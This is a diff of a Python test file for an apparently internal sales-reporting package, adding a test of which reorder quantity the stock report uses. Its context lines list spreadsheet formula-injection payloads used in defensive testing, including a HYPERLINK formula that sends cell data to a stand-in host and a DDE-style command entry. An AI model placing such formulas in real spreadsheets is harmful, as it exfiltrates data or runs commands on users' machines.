@@ -457,6 +457,28 @@ MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|
              "+1+2", "-2+3", "\t=1+1", "\r=1+1", "  =1+1"]
 
 
+def test_the_reorder_column_is_the_reorder_lists_when_the_day_has_one(con):
+    """The report and the digest's reorder workbook give one quantity to order: the reorder
+    list's (from the forecast); without a list for the day, the stock mart's."""
+    from salesflow.reorder import ensure_reorder
+    from salesflow.reports.content import load_stock, report_period
+
+    period = report_period("daily", AS_OF)
+    table, _ = load_stock(con, period)
+    by_sku = {r["sku"]: r["reorder_qty"] for r in table.records()}
+    mart = dict(con.execute("SELECT sku, reorder_qty FROM marts.stock_status WHERE as_of = ?",
+                            [AS_OF]).fetchall())
+    assert len(by_sku) >= 2 and all(by_sku[k] == mart[k] for k in by_sku)
+
+    listed, unlisted = sorted(by_sku)[:2]
+    ensure_reorder(con)
+    con.execute("INSERT INTO marts.reorder_suggestions (as_of, sku, suggested_qty) VALUES (?, ?, 37)",
+                [AS_OF, listed])
+    table, _ = load_stock(con, period)
+    by_sku = {r["sku"]: r["reorder_qty"] for r in table.records()}
+    assert by_sku[listed] == 37 and by_sku[unlisted] == 0
+
+
 def test_no_cell_of_the_workbook_can_run_a_formula(con, tmp_path):
     skus = [r[0] for r in con.execute("SELECT DISTINCT sku FROM marts.stock_status WHERE as_of = ? "
                                       "AND status IN ('LOW', 'OUT_OF_STOCK') ORDER BY sku", [AS_OF]).fetchall()]
